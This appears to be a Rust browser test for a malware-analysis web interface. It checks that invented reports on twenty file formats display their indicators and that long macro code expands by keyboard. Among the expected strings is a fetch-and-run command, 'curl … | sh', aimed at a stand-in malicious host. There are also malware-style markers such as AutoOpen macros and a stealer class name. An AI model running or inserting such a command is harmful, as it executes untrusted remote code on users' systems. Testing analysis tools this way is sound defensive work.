//! The inside of a file on the page, format by format: what an analyst looks for is read, opened, copied, by keys too.

use assay_browser::axe;
use assay_browser::browser::Browser;
use assay_browser::session::Session;
use assay_browser::world::World;
use fantoccini::key::Key;
use serde_json::{Value, json};
use stand_in::Misbehaviour;

use crate::acts;
use crate::stage::{scenarios, shared};

scenarios![each_format_has_its_panels, code_opens_and_closes_by_keys,];

/// The invented reports of the tests of these panels.
fn formats() -> Value {
    serde_json::from_str(include_str!("../../../details/formats.json")).expect("JSON")
}

/// Opens the details of the report on a format; each has an address of its own.
async fn open(page: &Session, world: &World, name: &str, at: usize) {
    let id = format!("{:064x}", at + 1);
    let mut attributes = formats()[name].take();
    attributes["sha256"] = json!(id);
    let body = json!({"data": {"type": "file", "id": id, "attributes": attributes}});
    let answer = Misbehaviour::Body {
        status: 200,
        content_type: "application/json".to_owned(),
        body: body.to_string(),
    };
    world.stand_in.misbehave_on("GET", &format!("files/{id}"), answer);
    acts::go(page, &format!("#/file/{id}/details")).await;
    page.wait(
        name,
        "return document.querySelector('#panel-details')?.innerText.includes(arguments[0])",
        vec![json!(id)],
    )
    .await;
}

/// What is sought in the details of each format.
const SOUGHT: [(&str, &[&str]); 20] = [
    (
        "pe",
        &[
            "Windows program",
            "VS2015 build 23026",
            "UPX1",
            "RT_STRING × 12",
            "quill.pdb",
        ],
    ),
    ("dotnet", &[".NET", "2.320.689.50176", "Types by namespace", "Wallets"]),
    ("elf", &["ELF64", "GNU_STACK", "libpthread.so.0", "libquill_start"]),
    ("macho", &["Mach-O", "X86_64", "ARM64", "LC_MAIN", "libSystem.B.dylib"]),
    (
        "apk",
        &[
            "com.example.quill",
            "READ_SMS",
            "read your text messages",
            "BOOT_COMPLETED",
        ],
    ),
    ("doc", &["Macros", "url-pattern", "Sub AutoOpen()", "End Sub"]),
    ("docx", &["Module1.bas", "word/vbaProject.bin", "Offer"]),
    ("pdf", &["Action on opening (/OpenAction)", "%PDF-1.7"]),
    ("zip", &["What is inside", "3.2 : 1", "Portable Executable"]),
    ("iso", &["ISO 9660", "CDIMAGE 2.39"]),
    (
        "deb",
        &[
            "Debian package",
            "4.9.0-3",
            "curl https://quillnab-panel.example.org | sh",
        ],
    ),
    ("jar", &["JAR", "Main-Class: quill.Main", "quill.steal"]),
    ("class", &["Java class", "java.lang.Runtime.exec"]),
    ("lnk", &["Windows shortcut", "/c start invoice.exe", "desktop-quill"]),
    (
        "powershell",
        &["PowerShell", "invoke-expression", "The script decodes a program."],
    ),
    ("swf", &["Flash (SWF)", "get-url"]),
    (
        "pcap",
        &[
            "Captured traffic",
            "quillnab-panel[.]example[.]org",
            "Suricata",
            "EXE or DLL download",
        ],
    ),
    (
        "signed",
        &["What is wrong", "Nobody Ltd: Trust", "2015-01-01 00:00 UTC"],
    ),
    ("known", &["Example Corp", "setup-29.exe", "SETUP.EXE"]),
    (
        "malware",
        &[
            "Settings of malware",
            "quillnab-panel[.]example[.]org",
            "botnet = spring",
            "SEVERITY_HIGH",
        ],
    ),
];

async fn each_format_has_its_panels(browser: Browser) {
    let page = shared(browser).await;
    let world = World::served().await;
    acts::open_with_key(&page, &world).await;
    for (at, (name, texts)) in SOUGHT.into_iter().enumerate() {
        open(&page, &world, name, at).await;
        for text in texts {
            page.wait(
                &format!("{text} of {name}"),
                "return document.querySelector('#panel-details').innerText.toLowerCase().includes(arguments[0].toLowerCase())",
                vec![json!(text)],
            )
            .await;
        }
        let wide = page
            .run(
                "return document.documentElement.scrollWidth > document.documentElement.clientWidth",
                vec![],
            )
            .await;
        assert_eq!(wide, json!(false), "{name} is wider than the window");
        if let Some(script) = axe::script() {
            let found = page.axe(script).await;
            assert!(found.is_empty(), "{name}: {found:?}");
        }
    }
    // The settings of malware stand before everything else.
    let first = page.text_of("#panel-details h2").await.unwrap_or_default();
    assert!(first.starts_with("Settings of malware"), "{first}");
}

async fn code_opens_and_closes_by_keys(browser: Browser) {
    let page = shared(browser).await;
    let world = World::served().await;
    acts::open_with_key(&page, &world).await;
    let id = "a".repeat(64);
    let code: String = (0..300).fold(String::new(), |code, n| code + &format!("\tx{n} = \"\u{202E}\"\r\n"));
    let body = json!({"data": {"type": "file", "id": id, "attributes": {
        "sha256": id, "office_info": {"ole": {"num_macros": 1, "macros": [{"vba_filename": "M.bas", "vba_code": code}]}}
    }}});
    let answer = Misbehaviour::Body {
        status: 200,
        content_type: "application/json".to_owned(),
        body: body.to_string(),
    };
    world.stand_in.misbehave_on("GET", &format!("files/{id}"), answer);
    acts::go(&page, &format!("#/file/{id}/details")).await;
    page.sees("x23 = \"⟨U+202E⟩\"").await;
    page.does_not_see("x24 =").await;
    page.run("called('button', 'Show all 300 lines').focus()", vec![]).await;
    page.keys(&[Key::Enter]).await;
    page.sees("x299 = \"⟨U+202E⟩\"").await;
    page.press("Show less").await;
    page.does_not_see("x299 =").await;
}
